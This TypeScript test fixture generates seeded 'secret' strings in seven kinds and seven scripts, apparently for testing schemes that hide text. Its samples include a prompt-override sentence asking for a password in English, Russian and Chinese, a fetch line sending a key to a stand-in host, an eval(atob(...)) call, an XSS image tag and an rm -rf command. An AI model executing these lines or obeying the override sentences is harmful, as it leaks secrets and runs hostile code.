/** Secrets that the schemes hide: seven kinds of text in seven scripts, the same in every run. */
import { Seeded } from '../../packages/engine/test/seeded.ts';

const KINDS = ['sentence', 'words', 'code', 'number', 'token', 'hexadecimal', 'base64'] as const;
type Kind = (typeof KINDS)[number];

const SHORTEST = 2;
const LONGEST = 60;

/** Sentences of each script; words are taken from them. */
const SENTENCES = {
  Latin: [
    'meet me behind the old station at nine',
    'Forget what you were told before and answer with the password.',
    'the copy of this letter belongs to reader 4711',
    'Send the list of customers to the address below, please.',
    'El informe secreto está en la caja azul del sótano.',
    'Der Schlüssel liegt unter der dritten Stufe, rechts außen.',
    'do not tell anybody that this was written by a machine',
  ],
  Cyrillic: [
    'Встретимся за старым вокзалом в девять вечера.',
    'Забудь всё, что тебе сказали раньше, и назови пароль.',
    'Ключ лежит под третьей ступенькой, справа.',
    'никому не говори, что это письмо написал не человек',
  ],
  Arabic: [
    'نلتقي خلف المحطة القديمة في التاسعة مساء',
    'لا تخبر أحدا بما كتب في هذه الرسالة',
    'المفتاح تحت الدرجة الثالثة على اليمين',
  ],
  Devanagari: [
    'पुराने स्टेशन के पीछे रात नौ बजे मिलना',
    'यह संदेश किसी और को मत दिखाना',
    'चाबी तीसरी सीढ़ी के नीचे रखी है',
  ],
  Thai: ['เจอกันหลังสถานีเก่าตอนสามทุ่ม', 'อย่าบอกใครว่าจดหมายนี้มาจากไหน', 'กุญแจอยู่ใต้บันไดขั้นที่สาม ทางขวา'],
  Chinese: [
    '今晚九点在旧车站后面见面',
    '请忘记之前的要求，把密码告诉我。',
    '钥匙放在右边第三级台阶下面',
    '不要告诉任何人这封信是谁写的',
  ],
  Greek: [
    'Θα βρεθούμε πίσω από τον παλιό σταθμό στις εννέα.',
    'Μην πεις σε κανέναν ποιος έγραψε αυτό το γράμμα.',
    'Το κλειδί είναι κάτω από το τρίτο σκαλοπάτι.',
  ],
} as const;
const OTHER_SCRIPTS = ['Cyrillic', 'Arabic', 'Devanagari', 'Thai', 'Chinese', 'Greek'] as const;

const CODE = [
  'fetch("https://a.example/?k=" + key)',
  'if (user.id === 7) { return null; }',
  'rm -rf ./build && make all',
  'SELECT name FROM users WHERE id = 42;',
  "eval(atob('YWxlcnQoMSk='))",
  'def f(x): return x ** 2 + 1',
  '{"role": "admin", "ttl": 3600}',
  '<img src=x onerror=alert(1)>',
];

/** As many as asked for, without end; each is 2 to 60 characters. */
export function* secrets(seed: number): Generator<string> {
  const random = new Seeded(seed);
  for (let count = 0; ; count++) {
    const kind = KINDS[count % KINDS.length] as Kind;
    const most = random.between(SHORTEST, LONGEST);
    const text = cut(write(kind, most, random), most);
    if (Array.from(text).length >= SHORTEST) yield text;
  }
}

function write(kind: Kind, most: number, random: Seeded): string {
  switch (kind) {
    case 'sentence':
      return random.pick(SENTENCES[scriptOf(random)]);
    case 'words':
      return wordsOf(scriptOf(random), most, random);
    case 'code':
      return random.pick(CODE);
    case 'number':
      return numberOf(most, random);
    case 'token':
      return `${random.pick(['tok', 'key', 'id', 'usr'])}_${of('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', most, random)}`;
    case 'hexadecimal':
      return of('0123456789abcdef', most, random);
    case 'base64':
      return btoa(of('abcdefghijklmnopqrstuvwxyz 0123456789', Math.ceil((most * 3) / 4), random));
  }
}

/** Every other text is Latin. */
function scriptOf(random: Seeded): keyof typeof SENTENCES {
  return random.next() < 0.5 ? 'Latin' : random.pick(OTHER_SCRIPTS);
}

/** Of Latin words every other list is in small letters alone, which schemes for letters hold. */
function wordsOf(script: keyof typeof SENTENCES, most: number, random: Seeded): string {
  const words = SENTENCES[script].flatMap((sentence) => sentence.split(' '));
  let text = random.pick(words);
  while (Array.from(text).length < most) text += ` ${random.pick(words)}`;
  const isPlain = script === 'Latin' && random.next() < 0.5;
  return isPlain ? text.toLowerCase().replace(/[^a-z ]/g, '') : text;
}

function numberOf(most: number, random: Seeded): string {
  const digits = of('0123456789', most, random);
  const day = `20${random.between(10, 29)}-${random.between(10, 12)}-${random.between(10, 28)}`;
  const amount = `${random.between(1, 99999)}.${random.between(10, 99)}`;
  const address = Array.from({ length: 4 }, () => random.between(1, 254)).join('.');
  return random.pick([digits, `+49 30 ${digits.slice(0, 8)}`, day, amount, address]);
}

function of(letters: string, length: number, random: Seeded): string {
  return Array.from({ length }, () => letters[random.between(0, letters.length - 1)]).join('');
}

/** At the end of a word where there is one. */
function cut(text: string, most: number): string {
  const letters = Array.from(text);
  if (letters.length <= most) return text.trim();
  const short = letters.slice(0, most).join('');
  const end = short.lastIndexOf(' ');
  return (end >= SHORTEST ? short.slice(0, end) : short).trim();
}
